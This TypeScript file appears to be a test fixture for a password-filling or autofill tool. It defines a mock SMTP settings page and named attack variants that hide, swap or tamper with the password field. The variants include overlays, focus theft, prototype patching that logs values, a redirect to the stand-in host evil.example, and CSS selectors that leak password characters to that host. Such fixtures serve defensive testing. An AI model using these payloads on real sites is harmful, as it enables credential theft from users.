/** A settings page that is out for the password, and what it tries: in scripts that it runs, or markup that it has. */

/** The attacker's own server. */
export const EVIL = 'https://evil.example';

const PASSWORD_ROW = '<p id="row"><label>SMTP password <input type="password" name="pass"></label>';
export const form = (password = PASSWORD_ROW) => `
  <h1>Mail settings</h1>
  <form id="form" onsubmit="return false">
    <p><label>SMTP host <input name="host" value="localhost"></label>
    <p><label>SMTP port <input name="port" value="25"></label>
    <p><label>SMTP username <input name="user" value="admin"></label>
    ${password}
    <p><label>From address <input name="from"></label>
    <p><button>Save</button>
  </form>
  <p><label>Search this site <input id="thief"></label>`;

/** The attacker's notebook: every patched function writes its arguments into `stolen`. */
const NOTE = `window.stolen = []; const note = (...things) => { for (const thing of things) try { stolen.push(typeof thing === 'object' && thing ? Object.values(thing).join() : typeof thing === 'symbol' ? '' : '' + thing); } catch {} };`;
export const script = (code: string) => `<script>${NOTE}${code}</script>`;

/** What hides the field once it was planned: a name, and a script. */
export const HIDING: readonly (readonly [string, string])[] = [
  ['makes the whole page transparent', `document.documentElement.style.opacity = '0.01'`],
  ['makes its body transparent', `document.body.style.opacity = '0'`],
  ['fades it a little at each of five levels', `let one = document.querySelector('[name=pass]'); for (let n = 0; n < 5 && one; n++, one = one.parentElement) one.style.opacity = '0.7'`],
  ['takes it away by a filter', `document.getElementById('row').style.filter = 'opacity(0)'`],
  ['masks it', `document.getElementById('row').style.maskImage = 'linear-gradient(transparent, transparent)'`],
  ['cuts it away as a circle', `document.getElementById('row').style.clipPath = 'circle(0)'`],
  ['cuts it away as a polygon', `document.querySelector('[name=pass]').style.clipPath = 'polygon(0 0, 0 0, 0 0)'`],
  ['shrinks it', `document.getElementById('row').style.transform = 'scale(.01)'`],
  ['turns it edge on', `document.getElementById('row').style.transform = 'rotateX(90deg)'`],
  ['zooms it away', `document.getElementById('row').style.zoom = '.01'`],
  ['keeps its content from being drawn', `document.getElementById('row').style.contentVisibility = 'hidden'`],
  ['moves it into a box of no height', `const box = document.createElement('div'); box.style.cssText = 'height:0;overflow:hidden'; document.getElementById('row').replaceWith(box); box.append(Object.assign(document.createElement('label'), {textContent: 'SMTP password '})); `],
  ['lays a popover over everything', `const over = Object.assign(document.createElement('div'), {popover: 'manual'}); over.style.cssText = 'inset:0;width:100vw;height:100vh;margin:0;border:0;background:#fff'; document.body.append(over); over.showPopover()`],
  ['lays a popover over everything that lets clicks through', `const over = Object.assign(document.createElement('div'), {popover: 'manual'}); over.style.cssText = 'inset:0;width:100vw;height:100vh;margin:0;border:0;background:#fff;pointer-events:none'; document.body.append(over); over.showPopover()`],
  ['opens a modal dialog over everything', `const over = document.createElement('dialog'); over.style.cssText = 'inset:0;width:100vw;height:100vh;max-width:none;max-height:none;margin:0;border:0;background:#fff'; document.body.append(over); over.showModal()`],
  ['paints over it with the box of a neighbour', `document.body.insertAdjacentHTML('beforeend', '<style>h1::after{content:"";position:fixed;inset:0;background:#fff;z-index:9}</style>')`],
  ['covers it with a frame', `const over = document.createElement('iframe'); over.style.cssText = 'position:fixed;inset:0;width:100vw;height:100vh;background:#fff'; document.body.append(over)`],
  ['disables it with its fieldset', `const set = document.createElement('fieldset'); set.disabled = true; const row = document.getElementById('row'); row.replaceWith(set); set.append(row)`],
];

/** What puts something else in the place of what was planned: a name, and a script. */
export const SWAPPING: readonly (readonly [string, string])[] = [
  ['moves the field into a frame of its own', `const frame = document.createElement('iframe'); document.body.append(frame); frame.contentDocument.body.append(document.querySelector('[name=pass]'))`],
  ['moves it under another label', `document.getElementById('thief').parentElement.append(document.querySelector('[name=pass]'))`],
  ['writes the document anew', `document.open(); document.write('<label>SMTP password <input type="password" name="pass"></label><label>Comment <input name="comment"></label>'); document.close()`],
  ['goes elsewhere as soon as a field is touched', `addEventListener('focusin', () => { location.href = '${EVIL}/'; }, {once: true})`],
  ['turns it into a box that shows what is typed', `document.querySelector('[name=pass]').type = 'text'; document.querySelector('[name=pass]').name = 'comment'`],
];

const patched = script(`
  for (const [owner, name] of [[HTMLInputElement.prototype, 'value'], [Element.prototype, 'textContent'], [Node.prototype, 'textContent'], [InputEvent.prototype, 'data']]) {
    const {get, set} = Object.getOwnPropertyDescriptor(owner, name) ?? {};
    if (get) Object.defineProperty(owner, name, {configurable: true, get() { return get.call(this); }, set(text) { note(text); return set?.call(this, text); }});
  }
  for (const owner of [Array.prototype, String.prototype, Map.prototype, WeakMap.prototype, Promise.prototype, Function.prototype, JSON, Object, EventTarget.prototype, Document.prototype])
    for (const name of Object.getOwnPropertyNames(owner)) {
      const {value, writable} = Object.getOwnPropertyDescriptor(owner, name) ?? {};
      if (typeof value !== 'function' || !writable || ['constructor', 'push', 'call', 'apply', 'bind', 'toString', 'join', 'values', 'execCommand'].includes(name)) continue;
      owner[name] = function (...args) { note(...args); return value.apply(this, args); };
    }`);

/** What listens where the password passes: a name, and markup that stands before the form. */
export const TAMPERING: readonly (readonly [string, string])[] = [
  ['patched every prototype before', patched],
  ['set traps on Object.prototype', script(`for (const name of ['secret', 'password', 'steps', 'value', 'then', 'toJSON', 'scanId']) Object.defineProperty(Object.prototype, name, {configurable: true, set: note, get() { note('read'); return undefined; }});`)],
  ['patched timers, frames and observers', script(`for (const name of ['setTimeout', 'requestAnimationFrame', 'queueMicrotask', 'postMessage', 'structuredClone']) { const real = window[name]; window[name] = (...args) => { note(...args); return real.apply(window, args); }; } for (const name of ['MutationObserver', 'IntersectionObserver']) { const Real = window[name]; window[name] = class extends Real { constructor(act, options) { super((...args) => { note(...args); act(...args); }, options); } }; }`)],
  ['patched attachShadow and focus', script(`const real = Element.prototype.attachShadow; Element.prototype.attachShadow = function (init) { const root = real.call(this, {...init, mode: 'open'}); note(root.innerHTML); return root; }; HTMLElement.prototype.focus = function () { document.getElementById('thief').focus(); };`)],
  ['names its fields after properties', '<style>.n{display:none}</style><script>addEventListener("DOMContentLoaded", () => { for (const name of ["children", "parentElement", "parentNode", "getAttribute", "querySelectorAll", "labels", "type", "elements", "ownerDocument"]) form.append(Object.assign(document.createElement("input"), {name, className: "n"})); });</script>'],
  ['names its fields after what documents have', '<img name="querySelectorAll"><img name="createTreeWalker"><img name="getElementById"><form name="execCommand"></form><form name="activeElement"></form><img name="body">'],
  ['moves the focus at every key', script(`addEventListener('keydown', () => document.getElementById('thief').focus(), true);`)],
  ['moves the focus before every input', script(`addEventListener('beforeinput', () => document.getElementById('thief').focus(), true);`)],
  ['selects the text of another field', script(`document.addEventListener('selectionchange', () => document.getElementById('thief')?.select());`)],
  ['has a second field of that name that nobody sees', '<input type="password" name="pass2" style="position:absolute;left:-9999px"><input type="password" name="pass2" style="opacity:0;position:absolute">'],
  ['reads attributes by style sheet', `<style>${[...'bcdfghjklmnpqrstvwxyz'].map((letter) => `input[name=pass][value^="${letter}"]{background:url(${EVIL}/${letter})}`).join('')}</style>`],
  ['has a base address elsewhere', `<base href="${EVIL}/">`],
  ['grows without end', script(`setInterval(() => { const box = document.createElement('div'); for (let n = 0; n < 200; n++) box.append(document.createElement('p')); box.hidden = true; document.body?.append(box); }, 20);`)],
  ['changes every attribute without end', script(`setInterval(() => { for (const one of document.querySelectorAll('input')) one.setAttribute('data-now', performance.now()); }, 5);`)],
];
